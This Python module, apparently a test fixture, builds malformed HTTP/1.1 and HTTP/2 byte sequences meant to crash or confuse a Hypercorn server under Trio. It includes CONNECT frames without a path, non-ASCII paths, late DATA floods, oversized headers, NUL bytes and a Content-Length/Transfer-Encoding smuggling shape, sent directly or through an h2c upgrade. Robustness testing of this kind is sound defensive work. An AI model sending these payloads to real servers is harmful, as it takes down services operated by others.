"""What an enemy sends: bytes that end a plain Hypercorn under Trio, and bytes that are no request at all."""

from __future__ import annotations

import base64

from h2.connection import H2Connection
from h2.settings import Settings
from hyperframe.frame import DataFrame, Frame, HeadersFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PLAIN = b"GET /hello HTTP/1.1\r\nhost: x\r\n\r\n"


def _frames(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def _settings() -> bytes:
    connection = H2Connection()
    connection.local_settings = Settings(client=True)
    connection.initiate_connection()
    return connection.data_to_send()[len(PREFACE) :]


def _headers(pairs: list[tuple[bytes, bytes]], stream: int = 1) -> HeadersFrame:
    frame = HeadersFrame(stream)
    frame.data = H2Connection().encoder.encode(pairs)
    frame.flags.add("END_HEADERS")
    return frame


def _end(frame: HeadersFrame) -> HeadersFrame:
    frame.flags.add("END_STREAM")
    return frame


def _get(path: bytes) -> list[tuple[bytes, bytes]]:
    return [(b":method", b"GET"), (b":path", path), (b":scheme", b"http"), (b":authority", b"x")]


def connect_without_path(stream: int = 1) -> bytes:
    """CONNECT has no `:path`, and Hypercorn looks for one."""
    return _frames(_end(_headers([(b":method", b"CONNECT"), (b":authority", b"x:1")], stream)))


def path_beyond_ascii(stream: int = 1) -> bytes:
    """Hypercorn decodes the path as ASCII."""
    return _frames(_end(_headers(_get(b"/\xff"), stream)))


def data_after_the_answer(stream: int = 1) -> bytes:
    """The application answers at once, and the body comes nevertheless."""
    data = DataFrame(stream, b"late")
    return _frames(_headers(_get(b"/hello"), stream), *([data] * 50))


HTTP2_ATTACKS = {
    "connect_without_path": connect_without_path,
    "path_beyond_ascii": path_beyond_ascii,
    "data_after_the_answer": data_after_the_answer,
}


def by_prior_knowledge(attack: bytes) -> bytes:
    """HTTP/2 from the first byte."""
    return PREFACE + _settings() + attack


def upgrade_request() -> bytes:
    """A request that offers to go on in HTTP/2, over cleartext."""
    settings = base64.urlsafe_b64encode(b"\x00\x03\x00\x00\x00\x64").rstrip(b"=")
    return (
        b"GET /hello HTTP/1.1\r\nhost: x\r\nconnection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: "
        + settings
        + b"\r\n\r\n"
    )


def by_upgrade(attack: bytes) -> bytes:
    """HTTP/2 behind an upgrade."""
    return upgrade_request() + PREFACE + _settings() + attack


WAYS_IN = {
    "prior_knowledge": lambda attack: by_prior_knowledge(attack(1)),
    "upgrade": lambda attack: by_upgrade(attack(3)),  # stream 1 is the upgraded request
}

NO_REQUESTS = {
    "ten_thousand_headers": b"GET / HTTP/1.1\r\nhost: x\r\n"
    + b"".join(b"h%d: v\r\n" % n for n in range(10_000))
    + b"\r\n",
    "a_huge_header": b"GET / HTTP/1.1\r\nhost: x\r\nbig: " + b"v" * 1_000_000 + b"\r\n\r\n",
    "an_endless_first_line": b"GET /" + b"a" * 1_000_000,
    "nul_bytes": b"\x00" * 100,
    "a_nul_in_a_header": b"GET / HTTP/1.1\r\nhost: x\r\na: \x00\r\n\r\n",
    "garbage": bytes(range(256)) * 8,
    "a_tls_hello": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 512,
    "an_empty_line": b"\r\n\r\n",
    "no_host": b"GET / HTTP/1.1\r\n\r\n",
    "two_hosts": b"GET / HTTP/1.1\r\nhost: x\r\nhost: y\r\n\r\n",
    "a_negative_length": b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: -1\r\n\r\n",
    "two_lengths": b"POST / HTTP/1.1\r\nhost: x\r\ncontent-length: 1\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    "a_broken_chunk": b"POST /echo HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n",
    "a_path_beyond_ascii": b"GET /\xff HTTP/1.1\r\nhost: x\r\n\r\n",
    "a_target_without_a_slash": b"GET ?x HTTP/1.1\r\nhost: x\r\n\r\n",
    "a_proxy_target": b"GET http://[ HTTP/1.1\r\nhost: x\r\n\r\n",
    "connect": b"CONNECT x:1 HTTP/1.1\r\nhost: x\r\n\r\n",
    "http_3_by_name": b"GET / HTTP/3.0\r\nhost: x\r\n\r\n",
    "http_0_9": b"GET /\r\n\r\n",
}
